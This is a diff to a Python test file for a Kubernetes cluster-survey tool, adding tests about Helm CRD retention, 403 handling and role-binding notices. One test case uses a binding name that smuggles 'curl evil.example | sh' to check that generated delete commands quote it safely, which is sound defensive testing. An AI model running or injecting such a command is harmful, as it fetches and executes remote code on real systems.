@@ -8,6 +8,7 @@ from typing import Any
 
 import pytest
 
+from components.cluster import definitions
 from components.cluster import issuer as issuer_module
 from components.cluster import survey as module
 from components.cluster.issuer import DISCOVERY
@@ -40,6 +41,9 @@ class Cluster:
         place, _, name = path.rpartition("/")
         found = [each["metadata"] for each in self.lists.get(place, []) if each["metadata"]["name"] == name]
         return found[0] if found else None
+
+    def all(self, path: str, labels: str = "") -> list[Found]:
+        return [each["metadata"] for each in self.lists.get(path, [])]
 
     def whole(self, path: str, labels: str = "") -> list[dict[str, Any]]:
         return self.lists.get(path, [])
@@ -130,6 +134,33 @@ def test_definitions_that_the_settings_leave_to_others_do_not_collide(environmen
     assert problems(environment, theirs, operator={"chart": {"crds": False}}) == ()
 
 
+def test_definitions_of_our_own_release_are_kept_before_they_are_left_to_others(environment: Build) -> None:
+    """Helm deletes what the chart no longer renders, and with a definition all objects of its kind."""
+    left = {"operator": {"chart": {"crds": False}}}
+    (found,) = problems(environment, STANDING, **left)
+    assert "Helm would delete them" in found
+    assert "annotate customresourcedefinitions connectors.tailscale.com helm.sh/resource-policy=keep" in found
+    notes = ({**BY_US, "helm.sh/resource-policy": "keep"}, {**BY_US, "meta.helm.sh/release-name": "ts"}, {})
+    for others in notes:
+        standing = {**STANDING, CRDS: [named("connectors.tailscale.com", annotations=others)]}
+        assert problems(environment, standing, **left) == ()
+
+
+def test_a_pipeline_that_may_not_see_definitions_still_sees_the_rest(
+    environment: Build, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def hidden(self: Cluster, path: str, labels: str = "") -> list[Found]:
+        raise ClusterUnknownError("403 Forbidden")
+
+    told: list[str] = []
+    monkeypatch.setattr(Cluster, "all", hidden)
+    monkeypatch.setattr(definitions.pulumi.log, "warn", told.append)
+    other = {**STANDING, BINDINGS["ClusterRoleBinding"]: [charts_binding("tailscale"), charts_binding("vpn")]}
+    (found,) = problems(environment, other, operator={"chart": {"crds": False}})
+    assert "an operator in namespace vpn" in found
+    assert "403 Forbidden" in told[0]
+
+
 def test_an_unbounded_role_is_told(environment: Build) -> None:
     role = named("auth", rules=[{"apiGroups": [""], "resources": ["groups"], "verbs": ["impersonate"]}])
     binding = {**charts_binding("tailscale"), "roleRef": {"kind": "ClusterRole", "name": "auth"}}
@@ -172,6 +203,10 @@ def notices(environment: Build, *bindings: dict[str, Any], **bent: Any) -> tuple
         (
             bound("support-access:read-only:highflame-sre", "Group", "highflame-sre", labels=OURS, namespace="shop"),
             "delete rolebinding support-access:read-only:highflame-sre`",
+        ),
+        (
+            bound("b; curl evil.example | sh", "Group", "highflame-sre", labels=OURS),
+            "delete clusterrolebinding 'b; curl evil.example | sh'`",
         ),
     ],
 )
